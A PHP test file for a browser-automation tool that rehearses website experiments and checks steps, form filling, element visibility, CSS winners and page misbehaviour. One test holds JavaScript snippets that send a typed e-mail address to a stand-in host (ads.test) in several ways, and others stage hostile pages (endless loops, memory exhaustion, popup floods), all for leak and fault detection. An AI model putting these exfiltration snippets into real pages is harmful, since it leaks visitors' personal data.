<?php

use App\Models\Rehearsal;
use App\Rehearsals\Browser\Chromium;
use App\Rehearsals\Browser\Leftovers;
use App\Rehearsals\Browser\Tab;
use App\Rehearsals\Outcome;
use App\Rehearsals\Probe;
use App\Rehearsals\Stage;
use App\Rehearsals\Styles;
use App\Rehearsals\Walker;
use Pellix\Core\Experiments\Change;
use Pellix\Core\Experiments\Experiment;
use Pellix\Core\Rehearsal\Leak;
use Pellix\Core\Rehearsal\Screen;
use Pellix\Core\Rehearsal\Script;
use Pellix\Core\Rehearsal\Step;
use Tests\Support\PageServer;

/* The browser of rehearsals by itself, on pages that are made for one question each. */

const RUNNING = '<script>window.pellix = Object.assign(function () { (window.said = window.said || []).push([].slice.call(arguments)); }, { running: true });</script>';

beforeEach(function () {
    $this->folder = sys_get_temp_dir().'/pellix-browser-'.bin2hex(random_bytes(4));
    $this->servers = [];
    $this->site = $this->makeSite();
    $this->site->update(['hosts' => ['shop.localhost']]);
    /** Opens a browser on pages of a site. */
    $this->browse = function (array $pages): Chromium {
        $this->servers[] = $server = new PageServer($pages);
        $this->origin = $server->origin;

        return $this->chromium = Chromium::start($this->folder, ['shop.localhost' => '127.0.0.1']);
    };
    $this->open = function (array|string $pages, string $path = '/', ?string $prepared = null): Tab {
        $tab = ($this->browse)(is_array($pages) ? $pages : ['/' => $pages])->visitor(Screen::Desktop);
        $prepared === null || $tab->prepare($prepared);
        $tab->go($this->origin.$path);
        $tab->settle();

        return $tab;
    };
});

afterEach(function () {
    isset($this->chromium) && $this->chromium->end();
    array_walk($this->servers, static fn (PageServer $server) => $server->end());
    // Neither a process nor a file is left of it.
    expect(Leftovers::processes($this->folder))->toBe([])->and(file_exists($this->folder))->toBeFalse();
});

/** @param array<string, mixed> $own what the experiment declares besides */
function stageOf(mixed $test, string $page, array $own = []): Stage
{
    $experiment = Experiment::read(['pellix' => 1, 'key' => 'a', 'salt' => 's', 'pages' => ['all' => []], 'variants' => [['key' => 'control', 'weight' => 1, 'control' => true], ['key' => 'b', 'weight' => 1]], ...$own]);
    $rehearsal = (new Rehearsal())->forceFill(['id' => 7, 'screens' => ['desktop'], 'variants' => ['control', 'b']]);
    $origin = (string) preg_replace('~(//[^/]+).*~', '$1', $page);

    return new Stage($rehearsal, $test->site, $experiment, $origin, [$page], null, Script::read(['pellix' => 1, 'steps' => [['do' => 'open', 'path' => '/']]]), static fn () => null, static fn () => null, 'key');
}

/** Somebody who does the steps of a script on a page. */
function walkerOn(mixed $test, array $pages): Walker
{
    $chromium = ($test->browse)($pages);
    $stage = stageOf($test, "{$test->origin}/")->in($chromium);

    return new Walker($stage, $stage->visitors->make('control', Screen::Desktop)->tab);
}

/** @return list<string> what could not be done, each with its step */
function walked(Walker $walker, array $steps): array
{
    $failed = [];
    foreach ($steps as $i => $step) {
        $result = $walker->do(Step::read($step));
        $result['done'] || $failed[] = ($i + 1).": {$result['words']}";
    }

    return $failed;
}

it('is held on the screens of its audience alone', function () {
    $all = stageOf($this, 'http://shop.localhost/');
    $mobile = stageOf($this, 'http://shop.localhost/', ['audience' => ['fact' => 'device', 'op' => 'is', 'value' => 'mobile']]);
    expect($all->screens())->toBe([Screen::Desktop])->and($mobile->screens())->toBe([])->and($mobile->screen())->toBe(Screen::Mobile);
});

it('does what a visitor does: every kind of step', function () {
    $walker = walkerOn($this, [
        '/' => RUNNING.'<style>.big { font-size: 20px } #menu { display: none } nav:hover #menu { display: block }</style><p class="big" id="words">Four  chairs</p><nav>Menu<a id="menu" href="/next">Next</a></nav><input id="town"><select id="kind"><option value="a">Bow</option><option value="b">Hair</option></select><p style="height: 3000px">Long</p><p id="end">End</p><script>setTimeout(function () { document.body.insertAdjacentHTML("beforeend", "<p id=late>Late</p>") }, 600)</script>',
        '/next' => RUNNING.'<form action="/sent" method="get"><input name="q" required><button>Send</button></form>',
        '/sent' => RUNNING.'<p id="sent">Sent</p>',
    ]);
    expect(walked($walker, [
        ['do' => 'open', 'path' => '/'],
        ['do' => 'wait', 'element' => '#late'],
        ['do' => 'wait', 'seconds' => 0.1],
        ['do' => 'type', 'element' => '#town', 'value' => '{town}'],
        ['do' => 'choose', 'element' => '#kind', 'value' => 'Hair'],
        ['do' => 'scroll', 'percent' => 100],
        ['do' => 'scroll', 'element' => '#words'],
        ['do' => 'hover', 'element' => 'nav'],
        ['do' => 'expect', 'element' => '#words', 'text' => 'Four chairs'],
        ['do' => 'expect', 'element' => '#words', 'style' => 'font-size', 'value' => '20px'],
        ['do' => 'expect', 'element' => '#none', 'not' => true],
        ['do' => 'expect', 'cookie' => 'plx_visitor'],
        ['do' => 'click', 'element' => '#menu'],
        ['do' => 'expect', 'address' => '/next'],
        ['do' => 'back'],
        ['do' => 'expect', 'address' => '/'],
        ['do' => 'reload'],
        ['do' => 'follow', 'path' => '/next'],
        ['do' => 'submit', 'element' => 'form'],
        ['do' => 'expect', 'element' => '#sent'],
        ['do' => 'new-tab'],
        ['do' => 'expect', 'element' => '#sent'],
        ['do' => 'consent', 'categories' => ['statistics']],
        ['do' => 'clear-cookies'],
        ['do' => 'expect', 'cookie' => 'plx_visitor', 'not' => true],
    ]))->toBe([])
        ->and($walker->tab->evaluate('JSON.stringify(window.said)'))->toBe('[["consent",["statistics"]]]')
        ->and($walker->forms->typed[0])->toStartWith('Upper ')->and(count($walker->forms->typed))->toBe(2);
});

it('says of a step why it could not be done', function () {
    $walker = walkerOn($this, ['/' => RUNNING.'<button id="under">Go</button><div style="position: fixed; inset: 0; background: #fff" class="veil"></div><select id="kind"><option>Bow</option></select><p id="hidden" hidden>x</p><p id="words">Four chairs</p>']);
    $failed = walked($walker, [
        ['do' => 'open', 'path' => '/'],
        ['do' => 'click', 'element' => '#under'],
        ['do' => 'choose', 'element' => '#kind', 'value' => 'Rosin'],
        ['do' => 'expect', 'element' => '#words', 'text' => 'Two chairs'],
        ['do' => 'expect', 'element' => '#words', 'not' => true],
        ['do' => 'expect', 'cookie' => 'nothing'],
        ['do' => 'submit', 'element' => '#words'],
        ['do' => 'click', 'element' => 'p['],
    ]);
    expect($failed)->toHaveCount(7)
        ->and($failed[0])->toContain('class="veil"')->toContain('lies over it')
        ->and($failed[1])->toBe('3: #kind has no choice “Rosin”')
        ->and($failed[2])->toBe('4: its text is “Four chairs”')
        ->and($failed[3])->toBe('5: there is an element as was not to be')
        ->and($failed[4])->toBe('6: there is no cookie nothing')
        ->and($failed[5])->toBe('7: #words is in no form');
});

it('fills in a form as somebody who wants to send it, and leaves alone what is not meant for people', function () {
    $walker = walkerOn($this, ['/' => RUNNING.'<form><label>E-mail <input name="m" type="email"></label><label>Your name <input name="n" maxlength="8"></label><input name="code" placeholder="Voucher"><input name="trap" style="position: absolute; left: -9999px"><input name="until" type="date" required min="2032-01-01"><select name="k" required><option value="">Choose</option><option value="bow">Bow</option></select><label><input type="checkbox" name="terms" required> Terms</label><label><input type="radio" name="size" value="s" required> S</label><label><input type="radio" name="size" value="l" required> L</label><textarea name="words"></textarea><button>Send</button></form><script>document.forms[0].addEventListener("submit", function (event) { event.preventDefault(); window.sent = JSON.stringify(Object.fromEntries(new FormData(event.target))); });</script>']);
    expect(walked($walker, [['do' => 'open', 'path' => '/'], ['do' => 'submit', 'element' => 'form']]))->toBe([]);
    $sent = (array) json_decode((string) $walker->tab->evaluate('window.sent'), true);
    expect($sent['m'])->toBe($walker->forms->madeUp->values['mail'])->and(mb_strlen($sent['n']))->toBe(8)
        ->and([$sent['code'], $sent['trap'], $sent['until'], $sent['k'], $sent['terms'], $sent['size']])->toBe(['', '', '2032-01-01', 'bow', 'on', 's'])
        ->and($sent['words'])->toContain($walker->forms->madeUp->mark);
});

it('sees what leaves a page, by whatever way it goes', function (string $send) {
    $walker = walkerOn($this, ['/' => RUNNING.'<form><input id="m" type="email"><button>Go</button></form><script>document.forms[0].addEventListener("submit", function (event) { event.preventDefault(); var m = document.getElementById("m").value; '.$send.' });</script>']);
    expect(walked($walker, [['do' => 'open', 'path' => '/'], ['do' => 'submit', 'element' => 'form'], ['do' => 'wait', 'seconds' => 0.5]]))->toBe([]);
    $found = array_filter($walker->requests, static fn (array $one): bool => Leak::in($one['url'].' '.$one['body'], $walker->forms->typed, $walker->forms->madeUp->mark) !== null);
    expect($found)->not->toBe([]);
})->with([
    'a picture' => ['new Image().src = "https://ads.test/p?m=" + encodeURIComponent(m);'],
    'a beacon' => ['navigator.sendBeacon("https://ads.test/b", new Blob([JSON.stringify({ m: m })]));'],
    'a form' => ['var f = new FormData(); f.append("m", m); fetch("https://ads.test/f", { method: "POST", mode: "no-cors", body: f }).catch(function () {});'],
    'bytes' => ['fetch("https://ads.test/f", { method: "POST", mode: "no-cors", body: new TextEncoder().encode(m) }).catch(function () {});'],
    'a worker' => ['new Worker(URL.createObjectURL(new Blob(["onmessage = function (e) { fetch(\'https://ads.test/w?m=\' + encodeURIComponent(e.data), { mode: \'no-cors\' }).catch(function () {}); }"]))).postMessage(m);'],
    'a socket' => ['try { new WebSocket("wss://ads.test/?m=" + m); } catch (e) {}'],
    'an address' => ['history.pushState({}, "", "?m=" + m); fetch(location.href);'],
]);

it('lets nothing out without its mark, also not of a page that is left at once, of its frames and workers, or closed', function () {
    $send = 'navigator.sendBeacon("/c", "x"); fetch("/c?f", { method: "POST", keepalive: true });';
    $page = RUNNING.'<button id="go" onclick=\'window.sent = 1;'.$send.'\'>Go</button><iframe src="/frame"></iframe><script>addEventListener("pagehide", function () { '.$send.' }); new Worker(URL.createObjectURL(new Blob(["fetch(\'" + location.origin + "/c?w\', { method: \'POST\' })"])));</script>';
    $walker = walkerOn($this, ['/' => $page, '/frame' => '<script>'.$send.' addEventListener("pagehide", function () { '.$send.' });</script>', '/next' => RUNNING.'<p>Next</p>', '/c' => '']);
    $steps = [['do' => 'open', 'path' => '/'], ['do' => 'open', 'path' => '/next'], ['do' => 'open', 'path' => '/']];
    expect(walked($walker, $steps))->toBe([]);
    $walker->hurries = true;
    expect(walked($walker, [['do' => 'click', 'element' => '#go']]))->toBe([]);
    $walker->hurries = false;
    expect(walked($walker, [['do' => 'open', 'path' => '/']]))->toBe([]);
    // Another gate takes none away.
    $walker->tab->guard([['urlPattern' => '*/next']], static fn (): ?array => null);
    expect(walked($walker, [['do' => 'open', 'path' => '/next'], ['do' => 'open', 'path' => '/']]))->toBe([]);
    $walker->tab->leave();
    $this->chromium->devtools->attend(0.5);
    $sent = array_values(array_filter($this->servers[0]->asked(), static fn (string $one): bool => str_starts_with($one, '/c')));
    expect(count($sent))->toBeGreaterThan(10)->and(array_values(array_filter($sent, static fn (string $one): bool => ! str_contains($one, 'rehearsal='))))->toBe([]);
});

/** @return array<string, mixed> how the first element of a change is seen */
function seenIn(mixed $test, string $html, array $change = []): array
{
    $tab = ($test->open)($html, prepared: Probe::watch([Change::read(['kind' => 'text', 'selector' => '#offer', 'value' => 'Four chairs', ...$change])]));

    return $tab->evaluate('pellixWatch.asked.details()', true)[0]['elements'][0] ?? [];
}

it('says why an element cannot be seen, and takes nothing for hidden that is not', function (string $html, ?string $hidden, bool $visible) {
    $seen = seenIn($this, $html);
    expect([$seen['hidden'], $seen['visible']])->toBe([$hidden, $visible]);
})->with([
    'plain' => ['<p id="offer">Four chairs</p>', null, true],
    'off the page' => ['<p id="offer" style="position: absolute; left: -9999px">Four chairs</p>', 'off', false],
    'clipped' => ['<p id="offer" style="clip-path: inset(100%)">Four chairs</p>', 'clipped', false],
    'in a closed box' => ['<div style="height: 0; overflow: hidden"><p id="offer">Four chairs</p></div>', 'clipped', false],
    'white on white' => ['<div style="background: #fff"><p id="offer" style="color: #fff">Four chairs</p></div>', 'colour', false],
    'without colour' => ['<p id="offer" style="color: transparent">Four chairs</p>', 'colour', false],
    'white on a picture' => ['<div style="background-image: linear-gradient(red, blue)"><p id="offer" style="color: #fff">Four chairs</p></div>', null, true],
    'white over a picture beside it' => ['<div style="position: relative; background: #fff"><img src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7" alt="" style="position: absolute; width: 300px; height: 80px"><p id="offer" style="position: relative; color: #fff; width: 200px">Four chairs</p></div>', null, true],
    'with a shadow alone' => ['<p id="offer" style="color: transparent; text-shadow: 0 0 red">Four chairs</p>', null, true],
    'cut out of a picture' => ['<p id="offer" style="color: transparent; background: linear-gradient(red, blue); background-clip: text; -webkit-background-clip: text">Four chairs</p>', null, true],
    'over two lines' => ['<p style="width: 90px">Now there are <b id="offer">four chairs and a bench</b></p>', null, true],
    'what it holds floats' => ['<div id="offer"><p style="float: left">Four chairs</p></div>', null, true],
    'without a box' => ['<div id="offer" style="display: contents"><p>Four chairs</p></div>', null, true],
    'a picture that is missing' => ['<img id="offer" src="/none.png" width="40" height="40" alt="">', 'picture', false],
    'within a scroller' => ['<div style="height: 60px; overflow: auto"><p style="height: 900px">x</p><p id="offer">Four chairs</p></div>', null, true],
    'letting clicks through' => ['<p id="offer" style="pointer-events: none">Four chairs</p>', null, true],
]);

it('says what covers an element, and what only looks as if it did', function (string $html, ?string $cover) {
    expect(seenIn($this, '<p id="offer">Four chairs</p>'.$html)['cover']['path'] ?? null)->toBe($cover);
})->with([
    'a banner' => ['<div id="banner" style="position: fixed; inset: 0; background: #fff"></div>', '#banner'],
    'one that lets clicks through' => ['<div id="banner" style="position: fixed; inset: 0; background: #fff; pointer-events: none"></div>', '#banner'],
    'a frame' => ['<iframe id="frame" srcdoc="x" style="position: fixed; inset: 0; width: 100%; height: 100%"></iframe>', '#frame'],
    'a dialog' => ['<dialog id="box" style="width: 100%; height: 100%; max-width: none; max-height: none">x</dialog><script>document.getElementById("box").showModal()</script>', '#box'],
    'a veil' => ['<div style="position: fixed; inset: 0; background: rgba(0, 0, 0, .1)"></div>', null],
    'a bar elsewhere' => ['<div style="position: fixed; left: 0; right: 0; bottom: 0; height: 40px; background: #fff"></div>', null],
]);

it('reads from the browser which declaration wins', function (string $html, array $change, array $found) {
    $tab = ($this->open)('<p class="lead" id="offer">Four chairs</p>'.$html, prepared: Probe::watch([$of = Change::read($change)]));
    $told = (new Styles($tab))->of($of, 0);
    expect([
        ...array_map(static fn (array $one): string => "{$one['winner']->value} {$one['winner']->place()}", $told['outranked']),
        ...array_map(static fn (array $one): string => "{$one['is']} {$one['by']}", $told['unheeded']), ...$told['styleless'], ...$told['unread'],
    ])->toBe($found);
})->with(function () {
    $sheet = static fn (string $css): array => ['kind' => 'sheet', 'value' => $css];
    $blue = '.lead { color: blue }';

    return [
        'nothing else' => ["<style>{$blue}</style>", $sheet($blue), []],
        'important' => ["<style>.lead { color: red !important }</style><style>{$blue}</style>", $sheet($blue), ['red .lead in a <style> of the page, line 1 (specificity 0,1,0, !important)']],
        'an id' => ["<style>{$blue}</style><style>#offer { color: red }</style>", $sheet($blue), ['red #offer in a <style> of the page, line 1 (specificity 1,0,0)']],
        'important in a layer' => ['<style>@layer base { .lead { color: red !important } }</style><style>.lead { color: blue !important }</style>', $sheet('.lead { color: blue !important }'), ['red .lead in a <style> of the page, line 1 (specificity 0,1,0, !important)']],
        'a layer alone' => ["<style>@layer base { #offer { color: red } }</style><style>{$blue}</style>", $sheet($blue), []],
        'the short form' => ['<style>#offer { background: red !important }</style><style>.lead { background-color: blue }</style>', $sheet('.lead { background-color: blue }'), ['red #offer in a <style> of the page, line 1 (specificity 1,0,0, !important)']],
        'an animation' => ["<style>{$blue}</style><style>.lead { animation: glow 1s forwards; } @keyframes glow { from, to { color: red } }</style>", $sheet($blue), ['rgb(255, 0, 0) the animation glow']],
        'an animation, and important' => ['<style>.lead { animation: glow 1s forwards; } @keyframes glow { from, to { color: red } }</style><style>.lead { color: blue !important }</style>', $sheet('.lead { color: blue !important }'), []],
        'misspelt' => ['<style>.lead { colr: blue; color: blurple }</style>', $sheet('.lead { colr: blue; color: blurple }'), ['colr: blue', 'color: blurple']],
        'a variable that is not there' => ['<style>.lead { color: var(--none) }</style>', $sheet('.lead { color: var(--none) }'), ['color: var(--none) (--none is not set there)']],
        'a class without a rule' => ['<script>document.getElementById("offer").className += " glad"</script>', ['kind' => 'class', 'selector' => '#offer', 'add' => ['glad']], ['glad']],
    ];
});

it('takes no rule for lost that holds at times, or for a part of an element', function () {
    $css = 'a:hover { color: red } p::before { content: "x" } input:checked { margin: 0 } .none { color: red }';
    $tab = ($this->open)("<p>x</p><a>y</a><input type='checkbox'><style>{$css}</style>", prepared: Probe::watch([Change::read(['kind' => 'sheet', 'value' => $css])]));
    expect(array_column($tab->evaluate('pellixWatch.asked.details()', true)[0]['rules'], 'found', 'selector'))->toBe(['a:hover' => 1, 'p::before' => 1, 'input:checked' => 1, '.none' => 0]);
});

it('names the script that takes something away, and the line of it', function (string $deed) {
    $tab = ($this->browse)(['/' => '<div id="box"><p id="offer" class="lead">Four chairs</p></div><script>'."\nsetTimeout(function () {\n{$deed}\n}, 300);</script>"])->visitor(Screen::Desktop);
    $tab->execute('Page.addScriptToEvaluateOnNewDocument', ['source' => Probe::call('culprit', ['#offer'])]);
    $tab->go("{$this->origin}/");
    $tab->settle();
    $tab->attend(0.6);
    $said = array_values(array_filter(array_column($tab->watch->console, 'text'), static fn (string $text): bool => str_starts_with($text, 'pellix-rehearsal took ')));
    [$selector, $url, $line] = (array) json_decode(substr($said[0] ?? '', 22), true);
    expect([$selector, $url, $line])->toBe(['#offer', "{$this->origin}/", 3]);
})->with([
    ['document.getElementById("offer").remove();'], ['document.getElementById("box").innerHTML = "<p>x</p>";'], ['document.getElementById("offer").outerHTML = "<p>x</p>";'],
    ['document.getElementById("offer").replaceWith("x");'], ['document.getElementById("offer").textContent = "x";'], ['document.getElementById("box").replaceChildren();'],
    ['document.getElementById("offer").className = "";'], ['document.getElementById("offer").classList.remove("lead");'], ['document.getElementById("box").removeChild(document.getElementById("offer"));'],
    ['var r = document.createRange(); r.selectNodeContents(document.getElementById("box")); r.deleteContents();'],
]);

it('presses what looks like a yes, the most likely first, and goes on to a second step', function (string $html, array $pressed) {
    $tab = ($this->open)($html);
    $all = [];
    while (count($all) < 6 && is_string($text = $tab->evaluate(Probe::call('agree', $all), true))) {
        $all[] = $text;
    }
    expect($all)->toBe($pressed);
})->with([
    'none' => ['<button>Buy</button><a href="/terms">I agree to read</a>', []],
    'all before some' => ['<button>OK</button><button>Accept all</button>', ['Accept all', 'OK']],
    'in a shadow root' => ['<div id="host"></div><script>document.getElementById("host").attachShadow({ mode: "open" }).innerHTML = "<button>I agree</button>";</script>', ['I agree']],
    'in two steps' => ['<button onclick="this.outerHTML = \'<button>Save my choice</button>\'">Accept</button>', ['Accept', 'Save my choice']],
    'hidden' => ['<button hidden>Accept</button><button>Save</button>', []],
]);

it('gets the file of another origin as it is', function () {
    $tab = ($this->open)('<p>x</p>');
    $this->servers[] = $other = new PageServer(['/s/file.js' => [['Content-Type: text/javascript'], $text = str_repeat('/* ♜ */', 20_000)]], 'shop.localhost');
    expect($tab->resource("{$other->origin}/s/file.js"))->toBe($text)->and($tab->resource("{$other->origin}/none.js"))->toBeNull();
});

it('comes to an end with a page that would not let it, and says what the page did', function (string $html, array $notes, ?bool $hangs = false) {
    $tab = ($this->open)(['/' => $html, '/large' => [['Content-Type: text/plain'], str_repeat('rosin ', 400_000)], '/file' => [['Content-Type: application/octet-stream', 'Content-Disposition: attachment; filename="x.bin"'], 'x']]);
    // What takes too much memory first hangs for a while.
    for ($i = 0; $i < 60 && $tab->hangs && $tab->watch->noted('crash') === null && $notes !== []; $i++) {
        $tab->attend(0.5);
    }
    $tab->attend(0.5);
    $outcome = new Outcome();
    $outcome->noteAll($tab->watch, null, null);
    expect(array_values(array_unique(array_map(static fn ($one): string => $one->code->value, array_values($outcome->findings)))))->toBe($notes)->and($hangs ?? $tab->hangs)->toBe($tab->hangs);
})->with([
    'a box' => ['<script>alert("x"); confirm("y"); prompt("z");</script>', ['page.dialog']],
    'a permission' => ['<script>navigator.geolocation.getCurrentPosition(function () {}); Notification.requestPermission();</script>', ['page.asks-permission']],
    'a download' => ['<script>location.href = "/file";</script>', ['page.download']],
    'windows' => ['<script>for (let i = 0; i < 50; i++) { open("/?" + i); }</script>', ['page.windows']],
    'a circle' => ['<script>location.replace("/?" + Math.random());</script>', ['page.loops']],
    'a loop' => ['<script>addEventListener("load", function () { for (;;) {} });</script>', [], true],
    'too much for its scripts' => ['<script>addEventListener("load", function () { const all = []; for (;;) { all.push(new Array(1e6).fill(Math.random())); } });</script>', ['page.crashed'], null],
    'too much to load' => ['<script>for (let i = 0; i < 12; i++) { fetch("/large?" + i).then((one) => one.text()); }</script>', ['page.too-large']],
]);

it('meets a page of a server that cannot be trusted, or of none', function () {
    $context = stream_context_create(['ssl' => selfSigned()]);
    $server = stream_socket_server('tls://127.0.0.1:0', $code, $message, STREAM_SERVER_BIND | STREAM_SERVER_LISTEN, $context);
    $port = substr((string) strrchr((string) stream_socket_get_name($server, false), ':'), 1);
    $process = pcntl_fork();
    if ($process === 0) {
        for (;;) {
            @stream_socket_accept($server, 20);
        }
    }
    try {
        $tab = ($this->browse)([])->visitor(Screen::Desktop);
        $tab->go("https://shop.localhost:{$port}/");
        $tab->settle(3.0);
        expect($tab->watch->noted('certificate'))->toContain('ERR_CERT');
        $other = $this->chromium->visitor(Screen::Desktop);
        $other->go('http://elsewhere.test/');
        expect($other->watch->noted('unreachable'))->toContain('ERR_NAME_NOT_RESOLVED');
    } finally {
        posix_kill($process, SIGKILL);
        pcntl_waitpid($process, $status);
    }
});

/** @return array{local_cert: string, local_pk: string} a certificate that nobody vouches for */
function selfSigned(): array
{
    $key = openssl_pkey_new(['private_key_bits' => 2048]);
    $certificate = openssl_csr_sign(openssl_csr_new(['commonName' => 'somebody.test'], $key), null, $key, 1);
    $files = ['local_cert' => (string) tempnam(sys_get_temp_dir(), 'cert'), 'local_pk' => (string) tempnam(sys_get_temp_dir(), 'key')];
    openssl_x509_export_to_file($certificate, $files['local_cert']);
    openssl_pkey_export_to_file($key, $files['local_pk']);

    return $files;
}
